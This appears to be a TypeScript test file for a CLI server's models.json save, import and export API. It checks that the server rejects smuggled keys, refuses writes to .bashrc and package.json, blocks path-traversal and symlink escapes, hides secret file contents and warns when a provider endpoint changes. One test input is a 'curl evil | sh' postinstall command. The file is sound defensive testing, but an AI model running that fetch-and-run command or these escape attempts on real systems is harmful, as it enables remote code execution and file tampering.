import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { startCliServer, tempDir, type ServerHandle } from '../../support/cliServer';
import { callApi } from '../../support/httpClient';

interface Changed {
  provider: string;
  model?: string;
  baseUrl: string | null;
  previous: string | null;
  new_provider: boolean;
}

const provider = (baseUrl: string) => ({ baseUrl, apiKey: 'KEY', api: 'openai-completions', models: [{ id: 'm1' }] });

describe('models.json stays models.json', () => {
  let server: ServerHandle;
  let target: { host: string; port: number };
  let agentDir: string;
  let home: string;

  before(async () => {
    home = fs.realpathSync(tempDir('psm-models-home-'));
    agentDir = path.join(home, 'agent');
    server = await startCliServer({ home, agentDir });
    target = { host: server.host, port: server.port };
  });
  after(async () => {
    await server.stop();
  });

  const call = <T = unknown>(command: string, payload: unknown) => callApi<T>(target, command, payload).then((r) => r.envelope);

  test('save refuses top-level keys pi does not read, so export cannot carry arbitrary JSON', async () => {
    const smuggled = await call('save_model_config', { providers: { p: provider('http://127.0.0.1:9/v1') }, scripts: { postinstall: 'curl evil | sh' } });
    assert.equal(smuggled.success, false);
    assert.equal(smuggled.code, 'invalid_payload');
    assert.match(smuggled.error!, /scripts: not a models\.json key/);
    assert.equal(fs.existsSync(path.join(agentDir, 'models.json')), false, 'nothing written');
    const wrapped = await call('save_model_config', { content: JSON.stringify({ providers: {}, name: 'x' }) });
    assert.equal(wrapped.success, false);
  });

  test('export writes only into the agent folder (models*.json) or its backups folder', async () => {
    assert.equal((await call('save_model_config', { providers: { p: provider('http://127.0.0.1:9/v1') } })).success, true);
    const bashrc = path.join(home, '.bashrc');
    fs.writeFileSync(bashrc, 'export KEEP=1\n');
    const project = path.join(home, 'project');
    fs.mkdirSync(project);
    fs.writeFileSync(path.join(project, 'package.json'), '{"name":"keep"}');
    for (const dest of [bashrc, path.join(project, 'package.json'), path.join(agentDir, 'auth.json'), path.join(agentDir, 'settings.json'), path.join(agentDir, 'backups', '..', '..', 'escape.json')]) {
      const res = await call('export_model_config_to_path', { path: dest, overwrite: true });
      assert.equal(res.success, false, dest);
      assert.equal(res.code, 'forbidden', dest);
      assert.match(res.error!, /can be imported from or exported to only/);
    }
    assert.equal(fs.readFileSync(bashrc, 'utf8'), 'export KEEP=1\n');
    assert.equal(fs.readFileSync(path.join(project, 'package.json'), 'utf8'), '{"name":"keep"}');
    assert.equal(fs.existsSync(path.join(agentDir, 'auth.json')), false);
    // A folder inside backups that is really a link out is refused too.
    fs.mkdirSync(path.join(agentDir, 'backups'), { recursive: true });
    fs.symlinkSync(project, path.join(agentDir, 'backups', 'linked'));
    const viaLink = await call('export_model_config_to_path', { path: path.join(agentDir, 'backups', 'linked', 'package.json'), overwrite: true });
    assert.equal(viaLink.code, 'forbidden');
    assert.equal(fs.readFileSync(path.join(project, 'package.json'), 'utf8'), '{"name":"keep"}');

    const inBackups = await call('export_model_config_to_path', { path: path.join(agentDir, 'backups', 'exported.json') });
    assert.equal(inBackups.success, true, inBackups.error ?? '');
    const beside = await call('export_model_config_to_path', { path: path.join(agentDir, 'models.copy.json') });
    assert.equal(beside.success, true, beside.error ?? '');
  });

  test('import reads only allowed places, says nothing about other files and never echoes content', async () => {
    const secret = path.join(home, 'secret.txt');
    fs.writeFileSync(secret, 'xSECRET-TOKEN');
    const absent = path.join(home, 'absent.json');
    const outsideSecret = await call('import_model_config_from_path', { path: secret });
    const outsideAbsent = await call('import_model_config_from_path', { path: absent });
    for (const res of [outsideSecret, outsideAbsent]) {
      assert.equal(res.success, false);
      assert.equal(res.code, 'forbidden');
    }
    assert.equal(outsideSecret.error!.replace(secret, 'X'), outsideAbsent.error!.replace(absent, 'X'), 'the same answer whether the file exists or not');

    const backups = path.join(agentDir, 'backups');
    fs.mkdirSync(backups, { recursive: true });
    const broken = path.join(backups, 'broken.json');
    fs.writeFileSync(broken, 'xSECRET-TOKEN');
    const parse = await call('import_model_config_from_path', { path: broken });
    assert.equal(parse.code, 'invalid_payload');
    assert.match(parse.error!, /invalid JSON at line 1, column 1/);
    assert.equal(/SECRET|'x'|"x/.test(parse.error!), false, parse.error!);

    fs.symlinkSync(secret, path.join(backups, 'link.json'));
    const link = await call('import_model_config_from_path', { path: path.join(backups, 'link.json') });
    assert.equal(link.code, 'forbidden');
    assert.equal(link.error!.includes('SECRET'), false);

    const granted = await call('import_model_config_from_path', { path: secret, grant: 'made-up' });
    assert.equal(granted.code, 'forbidden', 'HTTP callers cannot use editor grants');
    assert.match(granted.error!, /grant: only the editor/);

    const good = path.join(backups, 'good.json');
    fs.writeFileSync(good, JSON.stringify({ providers: { p: provider('http://127.0.0.1:9/v1') } }));
    const imported = await call('import_model_config_from_path', { path: good });
    assert.equal(imported.success, true, imported.error ?? '');
  });

  test('a changed baseUrl or a new provider is reported in the reply and logged as a warning', async () => {
    assert.equal((await call('save_model_config', { providers: { p: provider('http://127.0.0.1:9/v1') } })).success, true);
    const res = await call<{ changed_endpoints: Changed[] }>('save_model_config', {
      providers: {
        p: provider('https://collector.example/v1'),
        q: { ...provider('https://new.example/v1'), models: [{ id: 'm2', baseUrl: 'https://model.example/v1' }] },
      },
    });
    assert.equal(res.success, true, res.error ?? '');
    const changes = res.data.changed_endpoints;
    assert.deepEqual(
      changes.find((c) => c.provider === 'p'),
      { provider: 'p', baseUrl: 'https://collector.example/v1', previous: 'http://127.0.0.1:9/v1', new_provider: false },
    );
    assert.deepEqual(changes.find((c) => c.provider === 'q' && c.model === undefined), { provider: 'q', baseUrl: 'https://new.example/v1', previous: null, new_provider: true });
    assert.ok(changes.some((c) => c.provider === 'q' && c.model === 'm2' && c.baseUrl === 'https://model.example/v1'));
    const log = server.stderr();
    assert.match(log, /WARN.*provider "p" now sends prompts to https:\/\/collector\.example\/v1 \(was http:\/\/127\.0\.0\.1:9\/v1\)/i);
    assert.match(log, /WARN.*new provider "q" now sends prompts to https:\/\/new\.example\/v1/i);

    const same = await call<{ changed_endpoints: Changed[] }>('save_model_config', {
      providers: { p: provider('https://collector.example/v1'), q: { ...provider('https://new.example/v1'), models: [{ id: 'm2', baseUrl: 'https://model.example/v1' }] } },
    });
    assert.deepEqual(same.data.changed_endpoints, [], 'an unchanged file reports nothing');
  });
});
